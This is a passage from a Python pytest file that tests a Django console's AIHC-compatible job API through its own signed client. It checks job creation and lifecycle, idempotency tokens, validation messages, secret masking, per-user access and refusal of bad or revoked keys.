"""The AIHC-compatible API, driven by the console's own AIHC client (jobs.aihc.client), the
code that talks to real AIHC: pointed at the console, it creates, reads, stops and deletes
jobs on the local runner, signed with a user's access key."""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import re
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
from django.core import signals
from django.core.handlers.wsgi import WSGIHandler
from django.db import close_old_connections
from django.test import Client
from django.utils import timezone, translation

from jobs import spec as S
from jobs.aihc import signer
from jobs.aihc.client import AihcClient, AihcError, Credentials
from jobs.aihc.endpoints import V1, V2
from jobs.api_keys import api_key_create, api_key_revoke, unseal
from jobs.backends import get_backend
from jobs.backends.aihc import STATUS_MAP
from jobs.models import (
    ApiKey,
    ApiKeyRevokeReason,
    Job,
    JobReplica,
    JobStatus,
    LocalRun,
    LoginFailure,
)
from jobs.runner import replica_state_dir
from jobs.services import jobs_submit
from jobs.shim import UsageLog, read_usage
from jobs.wizard import available_pools
from jobs.worker import Worker

from .fake_aihc import FakeAihc, configure
from .runner_helpers import (
    CARD,
    UNTIL_THE_GATE_OPENS,
    make_spec,
    open_gate,
    run_until,
    runner_settings,  # noqa: F401
    status_of,
    volume,
)
from .signed_requests import CONSOLE, signed_headers, signed_request

pytestmark = pytest.mark.usefixtures("runner_settings")

# A create as a script asking for Chinese sends it.
IN_CHINESE = {"Content-Type": "application/json", "Accept-Language": "zh-CN"}
A800 = "baidu.com/a800_80g_cgpu"


@pytest.fixture
def wsgi() -> Iterator[httpx.WSGITransport]:
    """The console's WSGI application as an httpx transport: requests go through every
    middleware and view, in the test's own database transaction. As Django's test client
    does, the request signals do not close that transaction's connection."""
    signals.request_started.disconnect(close_old_connections)
    signals.request_finished.disconnect(close_old_connections)
    try:
        yield httpx.WSGITransport(app=WSGIHandler())
    finally:
        signals.request_started.connect(close_old_connections)
        signals.request_finished.connect(close_old_connections)


def client_for(wsgi, access_key: str, secret: str, **options) -> AihcClient:
    return AihcClient(
        endpoint=CONSOLE,
        credentials=Credentials(access_key, secret),
        transport=options.pop("transport", wsgi),
        retries=0,
        **options,
    )


@pytest.fixture
def alice_key(alice) -> tuple[ApiKey, str]:
    return api_key_create(owner=alice, description="training script")


@pytest.fixture
def api(wsgi, alice_key) -> AihcClient:
    key, secret = alice_key
    return client_for(wsgi, key.access_key_id, secret)


def body(name: str = "from-a-script", command: str = "echo hello from the api", **extra):
    """A v1 CreateJob body, as an AIHC script sends it."""
    return {
        "name": name,
        "queue": "default",
        "jobFramework": "PyTorchJob",
        "jobSpec": {
            "command": command,
            "image": "python:3.12",
            "replicas": 1,
            "resources": [{"name": "cpu", "quantity": 1}],
        },
        "datasources": [{"type": "hostpath", "name": "work", "mountPath": "/workspace"}],
        **extra,
    }


def refused(call) -> AihcError:
    with pytest.raises(AihcError) as caught:
        call()
    return caught.value


# -- create, read, stop, delete ------------------------------------------------------


def test_a_job_created_by_a_script_runs_on_the_local_runner_and_is_the_owners_job(
    api, alice, alice_client
):
    created = api.create_job(pool="local", body=body())

    job = Job.objects.get(public_id=created["jobId"])
    assert created == {"jobId": job.public_id, "jobName": "from-a-script"}
    assert job.owner == alice
    assert job.backend == "local" and job.resource_pool == "local"
    assert job.public_id.startswith("pytorchjob-")
    assert [e.reason for e in job.events.all()] == ["Created"]
    run_until(Worker(), lambda: status_of(job) == JobStatus.SUCCEEDED, what="the job to succeed")

    described = api.get_job(pool="local", job_id=job.public_id)
    assert described["status"] == "Succeeded"
    assert described["name"] == "from-a-script"
    assert [p["name"] for p in described["pods"]] == ["from-a-script-master-0"]
    assert described["pods"][0]["phase"] == "Succeeded"
    listed = api.list_jobs(pool="local")
    assert [j["jobId"] for j in listed] == [job.public_id]
    logs = api.pod_logs(pool="local", job_id=job.public_id, pod="from-a-script-master-0")
    assert any("hello from the api" in line for line in logs)
    reasons = [
        e["reason"] for e in api.job_events(pool="local", job_id=job.public_id, framework="")
    ]
    assert reasons == ["Created", "Started", "Succeeded"]
    page = alice_client.get(f"/jobs/{job.public_id}/")
    assert page.status_code == 200
    assert "from-a-script" in page.content.decode()


def test_a_finished_jobs_describe_job_gives_its_start_as_running_at_as_aihc_names_it(api):
    # qa86 read "startedAt" (null): AIHC's v1 GetJob has no such field, its start is runningAt.
    created = api.create_job(pool="local", body=body(name="timed"))
    job = Job.objects.get(public_id=created["jobId"])
    run_until(Worker(), lambda: status_of(job) == JobStatus.SUCCEEDED, what="the job to succeed")

    described = api.request(
        "GET",
        f"/api/v1/aijobs/{job.public_id}",
        params=[("resourcePoolId", "local")],
        idempotent=True,
    )["result"]

    job.refresh_from_db()
    stamp = "%Y-%m-%dT%H:%M:%SZ"
    assert described["runningAt"] == job.started_at.astimezone(UTC).strftime(stamp)
    assert described["finishedAt"] == job.finished_at.astimezone(UTC).strftime(stamp)
    assert described["createdAt"] <= described["runningAt"] <= described["finishedAt"]
    assert "startedAt" not in described


def test_a_script_stops_a_running_job_and_then_deletes_it(api, settings):
    created = api.create_job(pool="local", body=body(name="long-one", command=UNTIL_THE_GATE_OPENS))
    job = Job.objects.get(public_id=created["jobId"])
    worker = Worker()
    run_until(worker, lambda: status_of(job) == JobStatus.RUNNING, what="the job to run")
    assert api.get_job(pool="local", job_id=job.public_id)["status"] == "Running"

    api.stop_job(pool="local", job_id=job.public_id)

    run_until(worker, lambda: status_of(job) == JobStatus.STOPPED, what="the job to stop")
    assert api.get_job(pool="local", job_id=job.public_id)["status"] == "ManualTermination"
    stop_event = job.events.get(reason="StopRequested")
    assert stop_event.actor == job.owner
    open_gate(settings)

    api.delete_job(pool="local", job_id=job.public_id)

    assert not Job.objects.filter(pk=job.pk).exists()
    gone = refused(lambda: api.get_job(pool="local", job_id=job.public_id))
    assert (gone.status, gone.code) == (404, "JobNotFound")


def test_a_stop_of_a_job_that_had_ended_answers_as_a_stop_with_an_already_ended_warning(api):
    # qa97: a 200 alone read to a script as "stopped"; it is still no error (a retried stop).
    queued = api.create_job(pool="local", body=body(name="waiting"))["jobId"]
    ended = api.create_job(pool="local", body=body(name="done"))["jobId"]
    Job.objects.filter(public_id=ended).update(status=JobStatus.SUCCEEDED)

    def stop(job_id: str) -> dict:
        path = f"/api/v1/aijobs/{job_id}/stop"
        return api.request("POST", path, params=[("resourcePoolId", "local")], idempotent=False)

    stopped, after_end = stop(queued), stop(ended)
    v2 = api.request(
        "POST",
        "/",
        params=[("action", "StopJob"), ("resourcePoolId", "local")],
        body={"jobId": ended},
        version=V2,
        idempotent=False,
    )

    assert "warnings" not in stopped
    assert after_end["result"] == {"jobId": ended, "jobName": "done"}
    assert after_end["warnings"] == [
        {
            "code": "AlreadyEnded",
            "message": "Job done had already ended (Succeeded) before this stop: nothing was "
            "stopped.",
        }
    ]
    assert v2["warnings"] == after_end["warnings"]
    assert Job.objects.get(public_id=ended).status == JobStatus.SUCCEEDED
    assert Job.objects.get(public_id=queued).status == JobStatus.STOPPED


def test_a_signed_head_of_a_job_answers_as_its_get_does_and_deletes_nothing(api):
    """A HEAD reads as a GET; the job's address also takes DELETE, which it must not reach."""
    created = api.create_job(pool="local", body=body(name="looked-at"))
    path = f"/api/v1/aijobs/{created['jobId']}"
    params = [("resourcePoolId", "local")]

    got = api._send("GET", path, params, None, V1, None)
    head = api._send("HEAD", path, params, None, V1, None)

    assert (head.status_code, got.status_code) == (200, 200)
    assert head.headers["Content-Type"] == got.headers["Content-Type"]
    assert Job.objects.filter(public_id=created["jobId"]).exists()
    assert api.get_job(pool="local", job_id=created["jobId"])["jobId"] == created["jobId"]


def test_a_job_waiting_for_review_is_pending_and_says_why(api, settings):
    settings.REVIEW_POLICY = "all"

    created = api.create_job(pool="local", body=body())

    job = Job.objects.get(public_id=created["jobId"])
    assert job.status == JobStatus.PENDING_REVIEW
    raw = api.request(
        "GET",
        f"/api/v1/aijobs/{job.public_id}",
        params=[("resourcePoolId", "local")],
        idempotent=True,
    )["result"]
    assert raw["status"] == "Pending"
    assert raw["consoleStatus"] == "pending_review"
    assert raw["statusReason"]


@pytest.mark.parametrize(("network", "on_host"), [("host", True), ("isolated", False)])
def test_a_local_jobs_host_network_is_answered_as_the_local_pool_runs_it(
    api, settings, network, on_host
):
    # qa78: "hostNetwork": false for jobs whose replicas share this machine's network; the
    # local pool decides it for every job (LOCAL_JOB_NETWORK), the request leaves it out.
    settings.LOCAL_JOB_NETWORK = network
    created = api.create_job(pool="local", body=body())

    described = api.request(
        "GET",
        f"/api/v1/aijobs/{created['jobId']}",
        params=[("resourcePoolId", "local")],
        idempotent=True,
    )["result"]

    assert described["hostNetwork"] is on_host
    assert "hostNetwork" not in Job.objects.get(public_id=created["jobId"]).spec["jobSpec"]


def test_secret_env_values_are_never_sent_back(api):
    secret_body = body(console={"secretEnvs": ["HF_TOKEN"]})
    secret_body["jobSpec"]["envs"] = [{"name": "HF_TOKEN", "value": "hf_verysecretvalue"}]
    created = api.create_job(pool="local", body=secret_body)

    raw = api.request(
        "GET",
        f"/api/v1/aijobs/{created['jobId']}",
        params=[("resourcePoolId", "local")],
        idempotent=True,
    )

    assert raw["result"]["envs"] == [{"name": "HF_TOKEN", "value": "******"}]
    assert "hf_verysecretvalue" not in json.dumps(raw)
    job = Job.objects.get(public_id=created["jobId"])
    assert job.job_spec().secret_values() == ["hf_verysecretvalue"]  # the job still gets it


def test_a_secret_named_with_spaces_around_it_in_secret_envs_is_still_secret(api, alice_client):
    # Env names are read without the spaces around them; secretEnvs were not, so the value
    # of " HF_TOKEN" was not masked anywhere: API answers, the job page, the admin.
    secret_body = body(console={"secretEnvs": [" HF_TOKEN "]})
    secret_body["jobSpec"]["envs"] = [{"name": "HF_TOKEN", "value": "hf_verysecretvalue"}]
    created = api.create_job(pool="local", body=secret_body)

    raw = api.request(
        "GET",
        f"/api/v1/aijobs/{created['jobId']}",
        params=[("resourcePoolId", "local")],
        idempotent=True,
    )
    page = alice_client.get(f"/jobs/{created['jobId']}/")

    assert raw["result"]["envs"] == [{"name": "HF_TOKEN", "value": "******"}]
    assert page.status_code == 200
    assert "hf_verysecretvalue" not in page.content.decode()
    job = Job.objects.get(public_id=created["jobId"])
    assert job.job_spec().secret_values() == ["hf_verysecretvalue"]  # the job still gets it
    # A stored document that no longer parses is masked by the same names.
    unreadable = {**secret_body, "resourcePoolId": "local", "priority": ["not text"]}
    with pytest.raises(S.SpecError):
        S.parse_document(unreadable)
    assert S.stored_secret_values(unreadable) == ["hf_verysecretvalue"]


def test_an_env_named_like_a_secret_in_a_scripts_body_is_never_sent_back(api, alice_client):
    # Found in QA (round 33): AIHC's body has no secretEnvs, so a script's HF_TOKEN came back
    # in clear from DescribeJob and on the job's page, while the import of the same body
    # masked it.
    script_body = body()
    script_body["jobSpec"]["envs"] = [
        {"name": "HF_TOKEN", "value": "hf_verysecretvalue"},
        {"name": "TOKENIZER_PATH", "value": "/workspace/tokenizer"},
    ]
    created = api.create_job(pool="local", body=script_body)

    raw = api.request(
        "GET",
        f"/api/v1/aijobs/{created['jobId']}",
        params=[("resourcePoolId", "local")],
        idempotent=True,
    )
    page = alice_client.get(f"/jobs/{created['jobId']}/")

    assert raw["result"]["envs"] == [
        {"name": "HF_TOKEN", "value": "******"},
        {"name": "TOKENIZER_PATH", "value": "/workspace/tokenizer"},
    ]
    assert page.status_code == 200
    assert "hf_verysecretvalue" not in page.content.decode()
    job = Job.objects.get(public_id=created["jobId"])
    assert job.job_spec().secret_values() == ["hf_verysecretvalue"]  # the job still gets it


def test_a_body_that_names_its_secret_envs_is_taken_as_it_says(api):
    said = body(console={"secretEnvs": []})  # even none: nothing is guessed
    said["jobSpec"]["envs"] = [{"name": "MAX_TOKENS_PASSWORD_HINT", "value": "shown"}]
    created = api.create_job(pool="local", body=said)

    job = Job.objects.get(public_id=created["jobId"])
    assert job.job_spec().secret_values() == []


def test_a_secret_env_name_that_names_no_env_is_refused_and_creates_nothing(api):
    # Found in QA (round 33): "HF-TOKEN" for HF_TOKEN marked nothing secret, silently, and
    # the value it meant to hide was shown in every answer and on every page.
    typo = body(console={"secretEnvs": ["HF-TOKEN"]})
    typo["jobSpec"]["envs"] = [{"name": "HF_TOKEN", "value": "hf_verysecretvalue"}]

    error = refused(lambda: api.create_job(pool="local", body=typo))

    assert (error.status, error.code) == (400, "InvalidParameter")
    assert error.message == (
        "console.secretEnvs[0]: “HF-TOKEN” is not the name of one of the job's envs, so it "
        "marks no value secret. More may be said once these are corrected: the checks that "
        "need every field read (the pool's cards, quota and volumes, the alert channels) run "
        "then."
    )
    assert "hf_verysecretvalue" not in error.message
    assert Job.objects.count() == 0


def test_every_console_status_reads_back_through_the_consoles_own_aihc_status_map():
    from jobs.api_views import AIHC_STATUS

    assert set(AIHC_STATUS) == set(JobStatus.values)
    for console_status, aihc_status in AIHC_STATUS.items():
        assert aihc_status.lower() in STATUS_MAP, console_status
    assert STATUS_MAP[AIHC_STATUS[JobStatus.RUNNING].lower()] == JobStatus.RUNNING
    assert STATUS_MAP[AIHC_STATUS[JobStatus.STOPPED].lower()] == JobStatus.STOPPED
    assert STATUS_MAP[AIHC_STATUS[JobStatus.QUEUED].lower()] == JobStatus.QUEUED


# -- idempotency ------------------------------------------------------------------------


def create_with_token(api: AihcClient, token: str, job_body: dict) -> str:
    data = api.request(
        "POST",
        "/api/v1/aijobs",
        params=[("resourcePoolId", "local"), ("clientToken", token)],
        body=job_body,
        idempotent=False,
    )
    return data["result"]["jobId"]


def test_a_retried_create_with_the_same_client_token_makes_one_job(api):
    first = create_with_token(api, "retry-1", body())
    again = create_with_token(api, "retry-1", body())

    assert again == first
    assert Job.objects.count() == 1


def test_the_same_client_token_with_another_body_is_refused_naming_the_first_job(
    api, wsgi, alice_key
):
    # qa105: a retry that changed a timestamp label made a second job beside the first.
    first = create_with_token(api, "retry-2", body())
    query = (("resourcePoolId", "local"), ("clientToken", "retry-2"))
    changed = body(labels=[{"key": "sent", "value": "2026-12-07T13:00:01Z"}])

    english = signed_request(wsgi, alice_key, method="POST", query=query, json=changed)
    chinese = signed_request(
        wsgi, alice_key, method="POST", query=query, headers=IN_CHINESE, json=changed
    )
    same = create_with_token(api, "retry-2", body())

    assert (english.status_code, english.json()["code"]) == (409, "IdempotentParameterMismatch")
    assert english.json()["message"] == (
        f"clientToken retry-2 already made job {first} within the last 24 hours, from another "
        "body: nothing was created. Send that job's body again to be answered its id, or use "
        "a new clientToken for a new job."
    )
    assert english.json()["jobId"] == first
    assert (chinese.status_code, chinese.json()["code"]) == (409, "IdempotentParameterMismatch")
    assert chinese.json()["message"].startswith(
        f"clientToken retry-2 已在 24 小时内创建了任务 {first}"
    )
    assert same == first
    assert list(Job.objects.values_list("public_id", flat=True)) == [first]


def test_a_create_whose_token_another_body_made_a_job_with_meanwhile_is_refused_not_made(
    api, alice
):
    """review56: two creates of one token and different bodies, sent at once, both found no
    job of the token, and both made one. The first create's job is committed here just after
    this create has looked for the token's jobs (Django's execute_wrapper, at that query), as
    the other create's commit would land then: it is found again under the owner's lock."""
    from django.db import connection

    from jobs.api_views import _token_key, body_fingerprint, token_submit_key

    token, other_body = "at-once", body(name="sent-at-once")
    other_key = token_submit_key(alice, token, "local", body_fingerprint(other_body))
    looked_for = f"{_token_key(alice, token, 'local')}%"
    made: list[Job] = []

    def other_create_commits_after_the_look(execute, sql, params, many, context):
        answer = execute(sql, params, many, context)
        if not made and looked_for in (params or ()):
            made.append(Job())  # once: the submit below queries too
            spec = S.parse_document(other_body, resource_pool_id="local", json_types=True)
            made[:] = jobs_submit(owner=alice, spec=spec, submit_key=other_key, backend="local")
        return answer

    with connection.execute_wrapper(other_create_commits_after_the_look):
        error = refused(lambda: create_with_token(api, token, body()))

    assert (error.status, error.code) == (409, "IdempotentParameterMismatch")
    assert list(Job.objects.values_list("public_id", flat=True)) == [made[0].public_id]


def test_a_client_token_is_held_per_pool_and_per_user(api, wsgi, bob):
    first = create_with_token(api, "shared-token", body())
    bob_key, bob_secret = api_key_create(owner=bob, description="bob's script")
    bobs = create_with_token(
        client_for(wsgi, bob_key.access_key_id, bob_secret), "shared-token", body(name="bobs")
    )

    assert bobs != first
    assert Job.objects.count() == 2


def test_the_same_job_with_its_client_token_moved_from_the_query_to_the_body_makes_one_job(api):
    # qa97: the token is the request's, not the job's; a body with it differed from one without.
    first = create_with_token(api, "v1-b", body())
    in_body = api.request(
        "POST",
        "/api/v1/aijobs",
        params=[("resourcePoolId", "local")],
        body={"clientToken": "v1-b", **body()},
        idempotent=False,
    )["result"]["jobId"]

    assert in_body == first
    assert Job.objects.count() == 1


@pytest.mark.parametrize("made_when", ["before qa97", "before qa105"])
def test_a_create_sent_before_the_token_match_changed_and_retried_after_it_makes_one_job(
    api, made_when
):
    # Until qa97 the match was the body's bytes as sent, until qa105 one digest of the token
    # and the body: a job made then holds that key, and a retry within the day after the
    # upgrade must still find it.
    from jobs.aihc.client import request_json
    from jobs.api_views import _submit_key, body_fingerprint, token_submit_key

    first = create_with_token(api, "before-upgrade", body())
    job = Job.objects.get(public_id=first)
    owner = job.owner
    made_now = token_submit_key(owner, "before-upgrade", "local", body_fingerprint(body()))
    sent = request_json(body()).encode() if made_when == "before qa97" else body_fingerprint(body())
    made_then = _submit_key(owner, "before-upgrade", "local", sent)
    assert job.submit_key.startswith(made_now)
    Job.objects.filter(pk=job.pk).update(submit_key=made_then + job.submit_key[len(made_now) :])

    again = create_with_token(api, "before-upgrade", body())

    assert again == first
    assert Job.objects.count() == 1


def test_a_client_token_older_than_a_day_makes_a_new_job(api):
    first = create_with_token(api, "old-token", body())
    Job.objects.filter(public_id=first).update(created_at=timezone.now() - timedelta(hours=25))

    again = create_with_token(api, "old-token", body())

    assert again != first
    assert Job.objects.count() == 2


def test_without_a_client_token_each_create_is_a_new_job(api):
    api.create_job(pool="local", body=body())
    api.create_job(pool="local", body=body())

    assert Job.objects.count() == 2


# -- validation ---------------------------------------------------------------------------


def test_a_body_error_names_the_field_and_creates_nothing(api):
    bad = body()
    del bad["jobSpec"]["image"]
    bad["name"] = "Bad_Name"

    error = refused(lambda: api.create_job(pool="local", body=bad))

    assert (error.status, error.code) == (400, "InvalidParameter")
    assert "jobSpec.image: Enter an image address." in error.message
    assert "name: Job names use lowercase letters" in error.message
    assert Job.objects.count() == 0


def test_one_answer_names_every_field_wrong_in_a_body_not_one_stage_at_a_time(api):
    # qa97: the range error of replicas came alone, then the memory, then name, image, command.
    bad = {
        "name": "",
        "jobFramework": "PyTorchJob",
        "jobSpec": {
            "image": "",
            "command": "",
            "replicas": 0,
            "resources": [{"name": "memory", "quantity": "abc"}],
        },
    }

    error = refused(lambda: api.create_job(pool="local", body=bad))

    assert (error.status, error.code) == (400, "InvalidParameter")
    for said in (
        "jobSpec.replicas: Replicas count the master and its workers together and must be "
        "between 1 and ",
        'jobSpec.resources[0].quantity: Memory must be a number of GB, like 64 or "64GB".',
        "name: ",
        "jobSpec.image: Enter an image address.",
        "jobSpec.command: ",
    ):
        assert said in error.message, said
    # A rule is not said of a field that could not be read (replicas 0 is no master alone).
    assert error.message.count("jobSpec.replicas:") == 1
    assert error.message.endswith(
        "More may be said once these are corrected: the checks that need every field read (the "
        "pool's cards, quota and volumes, the alert channels) run then."
    )
    assert Job.objects.count() == 0


def test_aihc_clis_pytorch_spelling_is_refused_as_aihcs_openapi_documents_pytorchjob_only(api):
    # Decision (left32): the import reads "pytorch" as PyTorchJob with a notice; the API,
    # which scripts call with no one to read a notice, keeps the OpenAPI's names.
    error = refused(lambda: api.create_job(pool="local", body=body(jobFramework="pytorch")))

    assert (error.status, error.code) == (400, "InvalidParameter")
    assert error.message.startswith(
        "jobFramework: Framework must be PyTorchJob, MPIJob, TFJob or Custom. “pytorch” (as "
        "AIHC's CLI template writes it) is PyTorchJob here."
    )
    assert Job.objects.count() == 0


def test_a_framework_spelled_as_aihcs_cli_writes_it_is_refused_naming_the_one_meant_in_chinese(
    wsgi, alice_key
):
    r = signed_request(
        wsgi, alice_key, method="POST", headers=IN_CHINESE, json=body(jobFramework="mpi")
    )

    assert (r.status_code, r.json()["code"]) == (400, "InvalidParameter")
    assert r.json()["errors"][0]["field"] == "jobFramework"
    assert "“mpi”（AIHC 命令行模板的写法）在此即 MPIJob。" in r.json()["errors"][0]["message"]
    assert Job.objects.count() == 0


def test_a_card_type_the_pool_lacks_is_named_once_for_a_one_replica_body(api):
    # Found in QA: also on roles[1], the worker role of 0 instances a v1 body of one replica
    # reads back with, which the script never wrote.
    bad = body()
    bad["jobSpec"]["resources"] = [{"name": "nvidia.com/gpu", "quantity": 1}]

    error = refused(lambda: api.create_job(pool="local", body=bad))

    assert error.code == "InvalidParameter"
    assert error.message == "jobSpec.resources: The local pool has no “nvidia.com/gpu” cards."
    assert Job.objects.count() == 0


def test_a_refusal_names_each_field_where_the_v1_body_has_it_not_the_consoles_inner_path(
    api, settings
):
    # Found in QA: a script asking 2 x 8 cards of an 8-card pool was told
    # "roles[0].accelerators: ...", a path its v1 body has nowhere.
    settings.LOCAL_ACCELERATORS = "baidu.com/a800_80g_cgpu=8"
    too_many = body()
    too_many["jobSpec"]["replicas"] = 2
    too_many["jobSpec"]["resources"] = [{"name": "baidu.com/a800_80g_cgpu", "quantity": 8}]
    console_fields = body()
    console_fields["jobSpec"]["envs"] = [{"name": "BAD NAME", "value": "1"}]
    console_fields["console"] = {
        "timeoutMinutes": 0,
        "alertChannels": {"webhooks": ["http://10.0.0.8/hook"]},
        "roles": [{"name": "master", "replicas": 2}],
    }

    cards = refused(lambda: api.create_job(pool="local", body=too_many))
    console = refused(lambda: api.create_job(pool="local", body=console_fields))

    assert cards.message.startswith("jobSpec.resources: The job needs 16 ")
    assert "jobSpec.envs[0].name: " in console.message
    assert "console.timeoutMinutes: " in console.message
    assert "console.alertChannels.webhooks: " in console.message
    assert "console.roles[0].replicas: " in console.message
    assert "roles[" not in console.message.replace("console.roles[", "")
    assert Job.objects.count() == 0


def test_a_wrongly_typed_field_is_named_too(api):
    bad = body()
    bad["jobSpec"]["replicas"] = "two"

    error = refused(lambda: api.create_job(pool="local", body=bad))

    assert error.code == "InvalidParameter"
    # Text where AIHC declares a number, said as JSON's types (qa97).
    assert (
        'jobSpec.replicas: Must be a whole number: a JSON number, without quotes (2, not "2").'
        in error.message
    )


def test_a_wrongly_typed_field_of_a_roles_resources_is_named_at_its_place_under_console(api):
    # qa78: it was named "roles[0].resources[0].quantity", without its "console.".
    bad = body()
    bad["console"] = {
        "roles": [
            {"name": "master", "replicas": 1, "resources": [{"name": "cpu", "quantity": 1.5}]},
            {"name": "worker", "replicas": 1, "resources": [{"name": "cpu"}, "two"]},
        ]
    }

    error = refused(lambda: api.create_job(pool="local", body=bad))

    assert error.code == "InvalidParameter"
    assert "console.roles[0].resources[0].quantity: Must be a whole number." in error.message
    assert "console.roles[1].resources[1]: Must be an object." in error.message
    assert "roles[" not in error.message.replace("console.roles[", "")


def test_messages_follow_accept_language(api, wsgi, alice_key):
    bad = body()
    del bad["jobSpec"]["image"]
    r = signed_request(wsgi, alice_key, method="POST", headers=IN_CHINESE, json=bad)

    assert r.status_code == 400
    assert "jobSpec.image: 请填写镜像地址。" in r.json()["message"]


def test_a_body_nested_too_deeply_is_refused_in_english_whatever_accept_language(wsgi, alice_key):
    # A message about the request itself, as a body that is not JSON at all: in English, as
    # BCE's are (README "Scripts and SDKs"), not in the Chinese a job's messages follow.
    deep = b'{"labels": ' + b"[" * 40 + b"]" * 40 + b"}"
    r = signed_request(wsgi, alice_key, method="POST", headers=IN_CHINESE, content=deep)

    assert (r.status_code, r.json()["code"]) == (400, "MalformedJSON")
    assert r.json()["message"] == (
        "The JSON you provided is nested more than 32 levels deep; a CreateJob body needs six."
    )
    assert Job.objects.count() == 0


def test_more_variables_or_mounts_than_the_wizard_holds_are_refused_and_create_nothing(api):
    # Unlimited before: 40,000 variables fit in a body, and the admin's page of that job took
    # 44 s for each reviewer's view; a copy of a job with 51 kept only the first 50.
    many_envs = body()
    many_envs["jobSpec"]["envs"] = [{"name": f"V{i}", "value": "x"} for i in range(51)]
    many_mounts = body(
        datasources=[
            {"type": "hostpath", "name": "work", "mountPath": f"/data/{i}"} for i in range(51)
        ]
    )

    envs_error = refused(lambda: api.create_job(pool="local", body=many_envs))
    mounts_error = refused(lambda: api.create_job(pool="local", body=many_mounts))

    assert envs_error.code == "InvalidParameter"
    assert "envs: A job has at most 50 environment variables; this one has 51." in (
        envs_error.message
    )
    assert "datasources: A job has at most 50 mounts; this one has 51." in mounts_error.message
    assert not Job.objects.exists()
    many_envs["jobSpec"]["envs"].pop()
    assert api.create_job(pool="local", body=many_envs)["jobId"]  # 50 is the wizard's table


def test_a_pool_that_does_not_exist_is_refused(api):
    error = refused(lambda: api.create_job(pool="cce-nowhere", body=body()))

    assert (error.status, error.code) == (404, "ResourcePoolNotFound")


def test_the_pools_own_refusals_apply_as_in_the_wizard(api):
    bad = body()
    bad["datasources"] = [{"type": "hostpath", "name": "no-such-volume", "mountPath": "/data"}]

    error = refused(lambda: api.create_job(pool="local", body=bad))

    assert error.code == "InvalidParameter"
    assert "datasources[0]" in error.message
    assert Job.objects.count() == 0


def test_a_nul_in_a_mounts_source_path_is_refused_on_that_field_not_a_500(api):
    bad = body()  # mounts the local volume "work" (runner_settings)
    bad["datasources"][0]["sourcePath"] = "data\x00set"

    error = refused(lambda: api.create_job(pool="local", body=bad))

    assert (error.status, error.code) == (400, "InvalidParameter")
    assert "datasources[0].sourcePath" in error.message
    assert Job.objects.count() == 0


def test_a_job_the_idle_cards_cannot_hold_now_is_queued_and_runs_once_they_free_as_on_aihc(
    api, settings
):
    """Seed 001: CreateJob puts a job on the cluster's queue. v1 has no standalone/queue
    choice, so the wizard's standalone rule (refuse what is not idle now) does not apply."""
    worker = Worker()
    holder = body(name="holds-the-cards", command=UNTIL_THE_GATE_OPENS)
    holder["jobSpec"]["resources"] = [{"name": CARD, "quantity": 2}]
    first = Job.objects.get(public_id=api.create_job(pool="local", body=holder)["jobId"])
    run_until(worker, lambda: status_of(first) == JobStatus.RUNNING, what="the first job to run")
    waiter = body(name="waits-for-them")
    waiter["jobSpec"]["resources"] = [{"name": CARD, "quantity": 2}]

    second = Job.objects.get(public_id=api.create_job(pool="local", body=waiter)["jobId"])

    assert api.get_job(pool="local", job_id=second.public_id)["status"] == "Pending"
    open_gate(settings)
    run_until(worker, lambda: status_of(second) == JobStatus.SUCCEEDED, what="the second job")
    # A job the pool could never hold is still refused, with the pool's figures.
    waiter["jobSpec"]["resources"] = [{"name": CARD, "quantity": 3}]
    error = refused(lambda: api.create_job(pool="local", body=waiter))
    assert "the local pool has 2" in error.message


# -- whose jobs -----------------------------------------------------------------------------


def test_another_users_job_is_not_found_for_them_staff_included(api, wsgi, bob, superuser):
    created = api.create_job(pool="local", body=body())
    job_id = created["jobId"]

    for user in (bob, superuser):
        key, secret = api_key_create(owner=user)
        other = client_for(wsgi, key.access_key_id, secret)
        for call in (
            lambda c=other: c.get_job(pool="local", job_id=job_id),
            lambda c=other: c.stop_job(pool="local", job_id=job_id),
            lambda c=other: c.delete_job(pool="local", job_id=job_id),
            lambda c=other: c.job_events(pool="local", job_id=job_id, framework=""),
            lambda c=other: set_priority(c, job_id, "high"),
            lambda c=other: get(
                c, f"/api/v1/aijobs/{job_id}/pods/master-0/events", resourcePoolId="local"
            ),
        ):
            error = refused(call)
            assert (error.status, error.code) == (404, "JobNotFound")
        assert other.list_jobs(pool="local") == []
    job = Job.objects.get(public_id=job_id)
    assert job.status == JobStatus.QUEUED
    assert job.priority == "normal"
    assert list(job.events.values_list("reason", flat=True)) == ["Created"]


# -- refused signatures ---------------------------------------------------------------------


def test_a_wrong_secret_is_refused_as_a_signature_mismatch(wsgi, alice_key):
    key, _secret = alice_key
    wrong = client_for(wsgi, key.access_key_id, "0" * 32)

    error = refused(lambda: wrong.list_jobs(pool="local"))

    assert (error.status, error.code) == (403, "SignatureDoesNotMatch")
    assert error.request_id


def test_an_unknown_key_is_refused(wsgi):
    stranger = client_for(wsgi, "f" * 32, "0" * 32)

    error = refused(lambda: stranger.list_jobs(pool="local"))

    assert (error.status, error.code) == (403, "InvalidAccessKeyId")


def test_a_revoked_key_is_refused_from_the_moment_it_is_revoked(api, alice_key, settings):
    settings.SITE_URL = "https://console.example.com"
    assert api.list_jobs(pool="local") == []
    api_key_revoke(key=alice_key[0])

    error = refused(lambda: api.list_jobs(pool="local"))

    assert (error.status, error.code) == (403, "InvalidAccessKeyId")
    # qa97: said as revoked, when and by what, and where to make a new key, not "not in our
    # records" (the code stays AIHC's).
    key = ApiKey.objects.get(pk=alice_key[0].pk)
    when = key.revoked_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert error.message == (
        f"The access key {key.access_key_id} was revoked at {when}, by its owner. Create a "
        "new key on the console's API keys page, https://console.example.com/account/keys/, "
        "and sign with it."
    )


def test_a_revoked_key_named_without_its_secret_is_told_when_it_was_revoked_but_not_by_what(
    wsgi, alice_key, settings
):
    """fix108: the key ID alone (in a log, a colleague's script) is no proof of holding the
    key: a request signed with another secret learns when the key was revoked, not who or
    what revoked it; the key's holder, whose signature verifies, is told both (above)."""
    settings.SITE_URL = "https://console.example.com"
    key, _secret = alice_key
    api_key_revoke(key=key, reason=ApiKeyRevokeReason.STAFF)
    stranger = client_for(wsgi, key.access_key_id, "0" * 32)

    error = refused(lambda: stranger.list_jobs(pool="local"))

    assert (error.status, error.code) == (403, "InvalidAccessKeyId")
    key.refresh_from_db()
    when = key.revoked_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert error.message == (
        f"The access key {key.access_key_id} was revoked at {when}. Create a new key on the "
